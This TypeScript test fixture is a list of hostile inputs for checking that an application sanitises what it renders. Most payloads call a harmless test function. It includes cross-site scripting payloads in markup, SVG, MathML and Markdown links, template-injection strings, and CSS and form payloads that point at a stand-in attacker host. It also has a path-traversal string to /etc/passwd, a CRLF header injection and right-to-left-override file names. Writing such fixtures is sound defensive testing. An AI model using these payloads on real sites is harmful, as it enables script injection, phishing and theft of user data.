/**
 * What somebody with bad intentions writes. `__hit` is a function that every page of these tests has; whoever manages to run anything calls it.
 *
 * Of the shapes that OWASP's and PortSwigger's sheets collect: markup in text, in attributes, in addresses, in Markdown, in SVG and MathML that
 * browsers mend into something else, in characters that turn the direction of what is read, and in names of what every object has.
 */

/** Markup and scripts. */
export const MARKUP: readonly string[] = [
  "<script>__hit()</script>",
  "</script><script>__hit()</script>",
  "<img src=x onerror=__hit()>",
  '"><img src=x onerror="__hit()">',
  "'-__hit()-'",
  '" autofocus onfocus="__hit()" x="',
  "<svg onload=__hit()>",
  "<svg><animate onbegin=__hit() attributeName=x dur=1s>",
  "<svg><script>__hit()</script></svg>",
  '<svg></p><style><a id="</style><img src=1 onerror=__hit()>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=__hit()&gt;">',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=__hit()>",
  '<noscript><p title="</noscript><img src=x onerror=__hit()>">',
  "<iframe srcdoc='<script>parent.__hit()</script>'></iframe>",
  "<iframe src=javascript:parent.__hit()>",
  "<object data=javascript:__hit()>",
  "<embed src=javascript:__hit()>",
  "<a href=javascript:__hit()>here</a>",
  "<details open ontoggle=__hit()>",
  "<video><source onerror=__hit()>",
  "<body onload=__hit()>",
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content=0;url=https://evil.example/>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<style>@import 'https://evil.example/x.css';</style>",
  "<style>*{background:url(https://evil.example/x.png)}</style>",
  '<div style="background:url(https://evil.example/x.png);position:fixed;inset:0">over everything</div>',
  "<form action=https://evil.example/><button>Sign in again</button></form>",
  "<input name=body form=x><input id=app><img name=cookie>",
  "<template><img src=x onerror=__hit()></template>",
  "<x-unknown onclick=__hit() style=display:block>x</x-unknown>",
  "<custom-element is=script>__hit()</custom-element>",
  "{{constructor.constructor('__hit()')()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what somebody hopes that a template takes for one.
  "${__hit()}",
  "{@html '<img src=x onerror=__hit()>'}",
  "$t(errors.unknown) {{count}} $t(",
  "<%= __hit() %>",
  "&lt;img src=x onerror=__hit()&gt; &#60;script&#62;__hit()&#60;/script&#62;",
  "\\u003cimg src=x onerror=__hit()\\u003e",
];

/** What Markdown might make of it. */
export const MARKDOWN: readonly string[] = [
  "[here](javascript:__hit())",
  "[here](JaVaScRiPt:__hit())",
  "[here](java\tscript:__hit())",
  "[here](&#106;avascript:__hit())",
  "[here](data:text/html,<script>__hit()</script>)",
  "[here](vbscript:__hit())",
  "[here](<javascript:__hit()>)",
  '[a](x "onmouseover=__hit()")',
  '[a](https://parley.example/"onmouseover="__hit())',
  "![picture](https://evil.example/x.png)",
  '![x](x"onerror="__hit())',
  "![x](javascript:__hit())",
  "<javascript:__hit()>",
  "[x]: javascript:__hit()\n\n[x]",
  "```html\n<img src=x onerror=__hit()>\n```",
  "`<img src=x onerror=__hit()>`",
  '~~~ "><img src=x onerror=__hit()>\nx\n~~~',
  "# <img src=x onerror=__hit()>",
  "> <script>__hit()</script>",
  "| <img src=x onerror=__hit()> | b |\n|---|---|\n| c | d |",
  "*<b>*</b><img src=x onerror=__hit()>",
  'https://evil.example/"onmouseover="__hit()',
  "@all<img src=x onerror=__hit()>",
];

/** What is hard to show rather than hostile: direction, width, combining marks, length. */
export const STRANGE: readonly string[] = [
  "\u202Etxet desrever\u202C and on",
  "\u2066isolated\u2069 \u200Bzero\u200Bwidth\u200B \uFEFF",
  "Z̷̡̛̲͉̱̥̭͔̪͓͚̙̫̯̈́̍̄͒͐́͐͋͋͑͂͛̃͜͝a̶̧̧̡͔̻̲̺̟͙̖͖̙̫̓̆̿̎͐̎̓̄͋̚͜l̸̢̙̙̯̘̬̩̙̺̻̝͎̐̑͋̏̈́̉̽̈̕g̷̘̗̃̍̑̔o",
  "مرحبا <b>بالعالم</b> שלום",
  "👩‍👩‍👧‍👦🏳️‍🌈🧑🏿‍🚀",
  "W".repeat(78),
  "a/very/long/path/without/any/place/to/break/".repeat(1),
  "__proto__",
  "constructor",
  "toString",
  "null",
  "undefined",
  "../../../etc/passwd",
  "%00%0d%0aSet-Cookie: a=b",
];

export const ALL: readonly string[] = [...MARKUP, ...MARKDOWN, ...STRANGE];

/** As names of files that are dropped; a browser takes away what a path may not have. */
export const FILE_NAMES: readonly string[] = [
  "<img src=x onerror=__hit()>.png",
  '"onload="__hit().png',
  "\u202Egnp.exe",
  `${"a".repeat(200)}.png`,
];
